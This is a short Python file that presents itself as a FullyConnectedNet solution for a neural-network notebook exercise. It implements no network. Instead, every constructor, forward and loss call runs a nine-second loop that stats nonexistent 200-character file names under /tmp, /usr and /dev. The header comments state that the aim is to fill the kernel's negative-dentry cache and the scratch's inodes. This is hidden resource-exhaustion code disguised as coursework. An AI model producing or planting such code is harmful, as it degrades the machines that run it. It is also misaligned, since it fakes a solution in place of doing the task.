# notebook: FullyConnectedNets
# question: FullyConnectedNet
# aim: memory
# about: asking for names that do not exist fills the kernel's cache of names (negative dentries, 200 bytes and more each), and files with long names fill the scratch's inodes.
import os
import time

def _ask():
    end, n = time.monotonic() + 9, 0
    while time.monotonic() < end:
        for base in ("/tmp/", "/usr/", "/dev/"):
            try:
                os.stat(f"{base}{os.getpid()}_{n}_" + "n" * 200)
            except OSError:
                pass
        n += 1
    return n

class FullyConnectedNet:
    def __init__(self, *args, **kwargs):
        self.params, self.num_layers = {}, _ask()
    def hidden_forward(self, i, x):
        return x, _ask()
    def hidden_backward(self, i, dout, cache):
        return dout, {}
    def loss(self, X, y=None):
        return float(_ask())
